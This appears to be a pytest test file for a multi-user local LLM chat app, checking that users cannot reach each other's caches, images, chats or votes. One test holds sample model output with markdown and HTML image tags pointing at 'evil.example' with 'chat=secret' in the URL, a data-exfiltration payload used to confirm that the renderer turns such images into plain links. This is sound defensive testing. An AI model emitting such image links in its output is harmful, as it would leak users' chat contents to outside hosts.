"""Two logins on one server share models, not what they sent: neither KV prefixes nor
image embeddings are reused across users (the "cached" count and the encoder runs
tell nothing), saved images are served only to users whose chats hold them, model
output cannot make a reader's browser fetch an outside image, and deleting a chat
leaves nothing of it behind."""

from __future__ import annotations

import contextlib
from pathlib import Path

import httpx
import pytest

from chat.service import Answered, ChatService
from config import Settings
from documents.parts import ChatMessage
from engine import SamplingParams, TextPart
from engine.slot_state import session_files
from errors import UserError
from models.catalogue import user_model
from models.engines import engine_for
from sessions import Store
from sessions.blobs import sha256_of
from sessions.library import DocumentLibrary
from tests.conftest import png_bytes, start_app, stop_app, wait_for

GREEDY = SamplingParams(temperature=0, max_tokens=8, seed=3)
ANN, BOB = "ann", "bob"
LONG = " ".join(f"Clause {i}: the tenant keeps the garden at number {i} tidy." for i in range(40))


@pytest.fixture
def data_settings(tmp_path) -> Settings:
    return Settings(data_dir=tmp_path / "data")


@pytest.fixture
def service(data_settings):
    with Store(data_settings.data_dir) as store:
        yield ChatService(store, DocumentLibrary(store))


@pytest.fixture
def smol(data_settings):
    from models.catalogue import load_registry

    registry = load_registry(data_settings)
    engine = engine_for(registry.get(registry.default), data_settings)
    engine.load()
    yield engine
    engine.unload()


def turn(service: ChatService, engine, owner: str, messages: list[ChatMessage], session_id=None):
    """One chat turn of `owner` as the page runs it; returns (session id, Final)."""
    saved = service.save_question(messages[-1], session_id=session_id, owner=owner, model=engine.name)
    events = list(service.answer(engine, messages, GREEDY, saved=saved, cache_scope=owner))
    done = events[-1]
    assert isinstance(done, Answered) and done.final.finish_reason in ("stop", "length")
    return saved.session_id, done.final


def ask(text: str) -> list[ChatMessage]:
    return [
        ChatMessage.text("system", "You answer questions about the lease."),
        ChatMessage.text("user", text),
    ]


def test_another_users_prefix_is_neither_reused_nor_counted(service, smol):
    ann_chat, ann_first = turn(service, smol, ANN, ask(f"{LONG}\n\nWho keeps the garden?"))
    assert ann_first.usage.cached_tokens == 0
    # Bob's first turn shares Ann's long prefix token for token: it starts cold.
    _, bob_first = turn(service, smol, BOB, ask(f"{LONG}\n\nWho keeps the garden at 7?"))
    assert bob_first.usage.cached_tokens == 0
    assert bob_first.usage.prompt_tokens > 400
    # Ann's second turn still reuses her own work (restored from her chat's saved state).
    follow_up = [*ask(f"{LONG}\n\nWho keeps the garden?"), ChatMessage.text("assistant", "x")]
    follow_up.append(ChatMessage.text("user", "And at 9?"))
    _, ann_second = turn(service, smol, ANN, follow_up, session_id=ann_chat)
    assert ann_second.usage.cached_tokens == ann_first.usage.prompt_tokens


def test_one_users_chats_still_share_their_prefix(service, smol):
    turn(service, smol, ANN, ask(f"{LONG}\n\nName one clause."))
    assert wait_for(lambda: not smol.slot_table.busy())  # her first chat's slot saved, as a person types
    _, again = turn(service, smol, ANN, ask(f"{LONG}\n\nName two clauses."))  # a new chat of hers
    assert again.usage.cached_tokens > 400


def test_an_image_read_for_one_user_is_not_reused_for_another(tiny_llama4, data_settings):
    engine = engine_for(user_model(*tiny_llama4), data_settings)
    engine.load()
    try:
        photo = ChatMessage("user", (_image("purple"), TextPart("what is this?")))
        list(engine.stream([photo], GREEDY, cache_scope=ANN))
        again = ChatMessage("user", (_image("purple"), TextPart("and this one?")))
        *_, bob = engine.stream([again], GREEDY, cache_scope=BOB)
        assert bob.usage.cached_tokens == 0  # Bob's request read (and encoded) the image itself
        *_, ann = engine.stream([again], GREEDY, cache_scope=ANN)
        from engine.image_plan import image_tokens

        # Ann's is still hers to reuse: the chat header and the image came from her slot.
        assert ann.usage.cached_tokens > image_tokens(56, 56, engine.tile_budget)
    finally:
        engine.unload()


def _image(color: str):
    from engine import ImagePart

    return ImagePart(png_bytes(56, 56, color), "image/png", f"{color}.png", 56, 56)


# -- the page, with two logins -----------------------------------------------------


@pytest.fixture(scope="module")
def two_logins(tmp_path_factory, tiny_llama4):
    """Ann and Bob on the tiny vision model (answers are gibberish; who sees what is the point)."""
    data_dir = tmp_path_factory.mktemp("isolation-data")
    model, mmproj = tiny_llama4
    proc, url = start_app(
        "--data-dir", str(data_dir), "--model-path", str(model), "--mmproj", str(mmproj),
        "--auth", ":".join(ANN_LOGIN), "--auth", ":".join(BOB_LOGIN),
    )  # fmt: skip
    yield url, data_dir
    stop_app(proc)


ANN_LOGIN, BOB_LOGIN = (ANN, "ann-pw"), (BOB, "bob-pw")
TINY = dict(model_name="tiny-llama4", page_range="", system="", max_tokens=16, n_ctx=2048, seed=0)


def page_chat(client, text: str, files=()) -> list[dict]:
    from gradio_client import handle_file

    _, _, notice = client.predict(
        {"text": text, "files": [handle_file(f) for f in files]}, password="", api_name="/send"
    )
    assert notice == ""
    chat, notice = client.predict(**TINY, api_name="/respond")
    assert notice == ""
    return chat


@contextlib.contextmanager
def logged_in(url: str, login: tuple[str, str]):
    with httpx.Client(base_url=url, timeout=10) as web:
        assert web.post("login", data={"username": login[0], "password": login[1]}).status_code == 200
        yield web


def test_a_saved_image_is_served_only_to_the_user_whose_chat_holds_it(two_logins, write_png):
    from gradio_client import Client

    url, data_dir = two_logins
    ann = Client(url, auth=ANN_LOGIN, verbose=False)
    page_chat(ann, "look <image>", [write_png("ann's garden.png", color="orange")])
    with Store(data_dir) as store:
        session = next(s for s in store.list_sessions(owner=ANN) if s.title.startswith("look"))
        (attachment,) = store.branch(session.id)[0].attachments
        blob = store.blob_path(attachment.sha256)
    # The page shows it through the route, not as a copy in Gradio's cache.
    page = Client(url, auth=ANN_LOGIN, verbose=False, download_files=False)
    page.predict("", api_name="/list_chats")
    chatbot, *_ = page.predict(session.id, api_name="/open_chat")
    shown = chatbot[0]["content"][1]["file"]
    assert shown["url"] == f"{url}blobs/{attachment.sha256}" == shown["path"]
    with logged_in(url, ANN_LOGIN) as as_ann, logged_in(url, BOB_LOGIN) as as_bob:
        mine = as_ann.get(f"blobs/{attachment.sha256}")
        assert mine.status_code == 200 and mine.content == blob.read_bytes()
        assert mine.headers["content-type"] == "image/png"
        assert as_bob.get(f"blobs/{attachment.sha256}").status_code == 404  # as if it did not exist
        assert as_bob.get(f"blobs/{'0' * 64}").status_code == 404
        assert as_ann.get(f"gradio_api/file={blob.resolve()}").status_code == 403  # not a served folder
    assert httpx.get(f"{url}blobs/{attachment.sha256}", timeout=10).status_code == 404  # no login


def test_the_page_is_served_with_a_content_security_policy(two_logins):
    url, _ = two_logins
    with logged_in(url, ANN_LOGIN) as as_ann:
        for path in ("", "config", f"blobs/{'0' * 64}"):
            policy = as_ann.get(path).headers.get("content-security-policy", "")
            assert "img-src 'self' data: blob:" in policy, path


def test_deleting_a_chat_removes_its_kv_state_blobs_and_gradio_copies(two_logins, write_png):
    from gradio import processing_utils
    from gradio.utils import get_upload_folder
    from gradio_client import Client

    url, data_dir = two_logins
    # The Python client fetches files by path through Gradio, not by their URL: it
    # gets the chat as the page does, without downloading.
    ann = Client(url, auth=ANN_LOGIN, verbose=False, download_files=False)
    photo = write_png("to forget.png", color="teal")
    page_chat(ann, "forget me <image>", [photo])
    with Store(data_dir) as store:
        session = next(s for s in store.list_sessions(owner=ANN) if s.title.startswith("forget"))
        (attachment,) = store.branch(session.id)[0].attachments
        blob = store.blob_path(attachment.sha256)
    copy = Path(get_upload_folder()) / processing_utils.hash_file(blob)
    assert copy.is_dir()  # the upload Gradio kept
    kv = wait_for(lambda: [p for p in session_files(data_dir / "kv", session.id) if p.suffix == ".slot"])
    assert len(kv) == 1  # this chat's KV state, saved from its llama-server slot after its turn
    ann.predict("", api_name="/list_chats")
    ann.predict(session.id, api_name="/open_chat")
    ann.predict(api_name="/delete_chat")
    with Store(data_dir) as store:
        assert all(s.id != session.id for s in store.list_sessions(owner=ANN))
    assert not blob.exists() and not copy.exists()
    assert not [p for p in kv if p.exists()]


def test_images_in_model_output_become_links_never_img_tags():
    from app.render import to_chatbot
    from chat.turns import assistant_turn

    answer = (
        "Here: ![chart](https://evil.example/leak.png?chat=secret) and ![ref][1], "
        '<img src="https://evil.example/x.png"> <IMG/SRC=//e.example/y> vec![1, 2]\n\n[1]: https://e.example/z'
    )
    (shown,) = to_chatbot([assistant_turn(answer, "complete")])
    text = shown["content"]
    assert "![" not in text.replace("vec![1, 2]", "") and "<img" not in text.lower()
    # Still there, as links that open apart from the page (the answer is sanitized HTML).
    assert '<a href="https://evil.example/leak.png?chat=secret" target="_blank"' in text
    assert "🖼 chart</a>" in text and "🖼 ref</a>" in text
    assert "&lt;img src=" in text and "vec![1, 2]" in text


# -- the sweep at start ----------------------------------------------------------------


def test_the_sweep_removes_orphans_and_stale_temporaries_and_keeps_what_chats_hold(tmp_path):
    import os

    from documents.parts import DocumentPart
    from engine import ImagePart
    from engine.slot_state import SlotStates

    with Store(tmp_path) as store:
        photo = ImagePart(png_bytes(color="olive"), "image/png", "kept.png", 56, 56)
        ann_chat = store.create_session(owner=ANN)
        store.add_user_message(ann_chat, None, ChatMessage("user", (photo, TextPart("hi"))))
        kept_doc = store.ingest_document(b"Chapter one. The tide came in.", "kept.txt")
        bob_chat = store.create_session(owner=BOB)
        part = DocumentPart(kept_doc.sha256, "kept.txt", 1, (1,), ())
        store.add_user_message(bob_chat, None, ChatMessage("user", (part, TextPart("summarise"))))
        unused_doc = store.ingest_document(b"Nobody ever asked about this text.", "unused.txt")
        recent_doc = store.ingest_document(b"Read a moment ago, not sent yet.", "recent.txt")
        store.db.execute(
            "UPDATE documents SET created = '2000-01-01' WHERE sha256 != ?", (recent_doc.sha256,)
        )
        orphan = store.blob_path("ab" * 32)
        orphan.parent.mkdir(parents=True, exist_ok=True)
        orphan.write_bytes(b"left by a crash between file and row")
        stale, fresh = orphan.parent / ".tmp-stale", orphan.parent / ".tmp-fresh"
        for path in (stale, fresh):
            path.write_bytes(b"half a write")
        os.utime(stale, (0, 0))
        (tmp_path / "kv").mkdir()
        slots = SlotStates(tmp_path / "kv", "model", "print", max_bytes=10**6)  # llama-server's files
        for session in (ann_chat, "deleted-chat"):
            (tmp_path / "kv" / slots.writing_name(ANN, session)).write_bytes(bytes(10))
            assert slots.seal(ANN, session) is not None
        older_version = tmp_path / "kv" / "0123abcd-model.kvstate"  # in-process state, read no more
        older_version.write_bytes(b"L4PKV\n")

        swept = store.sweep()

        assert (swept.temporary, swept.documents, swept.blobs, swept.kv_states) == (1, 1, 1, 2)
        assert not older_version.exists()
        assert swept.line().startswith(
            "swept 1 stale temporary file, 1 unused document, 1 unreferenced blob, "
        )
        assert not stale.exists() and fresh.exists() and not orphan.exists()
        assert [p.name for p in (tmp_path / "kv").glob("*.slot")] == [slots.restorable(ANN, ann_chat)]
        assert store.blob_path(sha256_of(photo.data)).exists()  # Ann's chat holds it
        assert store.document(kept_doc.sha256) and store.document(recent_doc.sha256)  # Bob's; too recent
        assert not store.blob_path(unused_doc.sha256).exists()
        with pytest.raises(UserError):
            store.document(unused_doc.sha256)
        assert store.sweep().line() == ""  # nothing more to do


# -- votes -------------------------------------------------------------------------------


def compared(store: Store, owner: str, engines: list[str], tps: list[float], blind=False) -> int:
    """A finished comparison of `owner`'s, not voted on yet; answers decode at `tps`."""
    from engine.types import Final, Usage

    session = store.create_session(owner=owner, model="compare")
    question = store.add_user_message(session, None, ChatMessage.text("user", "Which is better?"))
    started = store.comparisons.start(session, [question] * len(engines), engines, [{}] * len(engines), blind)
    for writer, speed in zip(started.writers, tps, strict=True):
        writer.append("an answer")
        usage = Usage(prompt_tokens=5, completion_tokens=3, ttft_s=0.1, decode_tps=speed)
        writer.finish(Final("stop", usage))
    return started.id


def test_each_login_sees_a_leaderboard_of_their_own_votes(two_logins):
    from gradio_client import Client

    url, data_dir = two_logins
    with Store(data_dir) as store:
        ann_vote = compared(store, ANN, ["model-x", "model-y"], [50.0, 10.0])
        store.comparisons.vote(ann_vote, "best", 0)
        bob_vote = compared(store, BOB, ["model-y", "model-z"], [10.0, 99.0])
        store.comparisons.vote(bob_vote, "best", 1)
        assert [v.comparison_id for v in store.comparisons.votes(ANN)] == [ann_vote]
        assert len(store.comparisons.votes()) == 2  # everyone's, for --global-leaderboard

    def board(login) -> dict[str, int]:
        table = Client(url, auth=login, verbose=False).predict(api_name="/leaderboard")
        return {row[0]: row[3] for row in table["data"]}  # model -> wins

    assert board(ANN_LOGIN) == {"model-x": 1, "model-y": 0}
    assert board(BOB_LOGIN) == {"model-z": 1, "model-y": 0}


def test_a_global_leaderboard_only_where_the_server_says_so(tmp_path):
    from app import compare_tab
    from chat.runtime import build_runtime
    from cli.flags import settings_from
    from cli.main import build_parser

    flags = build_parser().parse_args
    assert settings_from(flags(["--data-dir", str(tmp_path)])).global_leaderboard is False
    assert settings_from(flags(["--global-leaderboard"])).global_leaderboard is True
    runtime = build_runtime(Settings(data_dir=tmp_path))
    try:
        for owner, engines in ((ANN, ["model-x", "model-y"]), (BOB, ["model-y", "model-z"])):
            comparison = compared(runtime.store, owner, engines, [1.0, 2.0])
            runtime.store.comparisons.vote(comparison, "tie")
        assert {row[0] for row in compare_tab._board(runtime, ANN)} == {"model-x", "model-y"}
        runtime.settings.global_leaderboard = True
        assert {row[0] for row in compare_tab._board(runtime, ANN)} == {"model-x", "model-y", "model-z"}
    finally:
        runtime.store.close()


def test_a_blind_comparison_shows_no_speeds_in_the_chat_tab_before_its_vote(tmp_path):
    import gradio as gr

    from app import history
    from chat.runtime import build_runtime

    runtime = build_runtime(Settings(data_dir=tmp_path))
    try:
        comparison = compared(runtime.store, ANN, ["model-x", "model-y"], [50.0, 10.0], blind=True)
        session = runtime.store.comparisons.get(comparison).session_id
        assert runtime.store.comparisons.speeds(ANN) == []  # not even in the leaderboard's means

        def footers() -> list[str]:
            turns, *_ = history._opener(runtime)(session, gr.Request(username=ANN))
            return [t.footer for t in turns if t.message.role == "assistant"]

        assert footers() == [""]
        runtime.store.comparisons.vote(comparison, "best", 1)
        assert "tokens/s" in footers()[0]
        assert [row.engine_id for row in runtime.store.comparisons.speeds(ANN)] == ["model-x", "model-y"]
    finally:
        runtime.store.close()


# -- documents ---------------------------------------------------------------------------


def test_an_encrypted_document_asks_each_reader_for_its_password(tmp_path):
    from documents.reader import PasswordRequired, WrongPassword
    from tests.fixtures.bad_documents import encrypted_pdf

    data = encrypted_pdf("ann-knows")
    with Store(tmp_path) as store:
        ann_row = store.ingest_document(data, "ann's contract.pdf", password="ann-knows")
        # Bob uploads the very same bytes: the unlocked copy is not his without the password.
        with pytest.raises(PasswordRequired, match=r"bob\.pdf is encrypted; give its password"):
            store.ingest_document(data, "bob.pdf")
        with pytest.raises(WrongPassword, match=r"bob\.pdf: wrong password"):
            store.ingest_document(data, "bob.pdf", password="a guess")
        bob_row = store.ingest_document(data, "bob.pdf", password="ann-knows")
        assert bob_row.sha256 == ann_row.sha256  # parsed and stored once
        assert (ann_row.name, bob_row.name) == ("ann's contract.pdf", "bob.pdf")  # each keeps their name
        plain = store.ingest_document(b"Just a note.", "first.txt")
        assert store.ingest_document(b"Just a note.", "second.txt").name == "second.txt"
        assert plain.name == "first.txt"


def test_the_page_asks_bob_for_the_password_ann_already_gave(two_logins, tmp_path):
    from gradio_client import Client, handle_file

    from tests.fixtures.bad_documents import encrypted_pdf

    url, data_dir = two_logins
    path = tmp_path / "locked.pdf"
    path.write_bytes(encrypted_pdf("open-sesame"))

    def send(login, password: str) -> str:
        client = Client(url, auth=login, verbose=False, download_files=False)
        message = {"text": "what does it say?", "files": [handle_file(str(path))]}
        *_, notice = client.predict(message, "tiny-llama4", "auto", password, api_name="/send")
        return notice

    assert send(ANN_LOGIN, "open-sesame") == ""
    assert send(BOB_LOGIN, "") == "⚠️ locked.pdf is encrypted; give its password"
    assert send(BOB_LOGIN, "guess") == "⚠️ locked.pdf: wrong password"
    with Store(data_dir) as store:  # Bob's refused questions were not saved
        assert not [s for s in store.list_sessions(owner=BOB) if s.title.startswith("what does it say")]


# -- in a real browser -------------------------------------------------------------------


@pytest.mark.skipif(not Path("/usr/bin/chromium").exists(), reason="Debian chromium not installed")
def test_in_the_browser_a_saved_image_shows_from_its_route_under_the_policy(two_logins, write_png):
    from playwright.sync_api import sync_playwright

    from tests.fixtures.browser import CHROMIUM, FLAGS, ask, shot

    url, _ = two_logins
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        refused = []  # what the Content-Security-Policy blocked, as the console reports it
        page.on("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)
        page.goto(url)
        page.get_by_label("username").fill(ANN)
        page.get_by_label("password").fill(ANN_LOGIN[1])
        page.get_by_role("button", name="Login").click()
        page.locator("#input input[type=file]").set_input_files([str(write_png("browser.png", color="navy"))])
        page.locator("#input img").first.wait_for(timeout=30_000)
        ask(page, "describe <image> please")
        page.locator("#chat .metrics").last.wait_for(timeout=60_000)
        page.reload()
        entry = page.locator("#chats label").filter(has_text="describe").first
        entry.wait_for(timeout=30_000)
        entry.click()
        image = page.locator("#chat img").first
        image.wait_for(timeout=30_000)
        page.wait_for_function("img => img.complete && img.naturalWidth > 0", arg=image.element_handle())
        assert image.get_attribute("src").startswith(f"{url}blobs/")
        shot(page, "saved-image-from-blob-route")
        browser.close()
    assert refused == []  # the page itself loads everything it needs under the policy
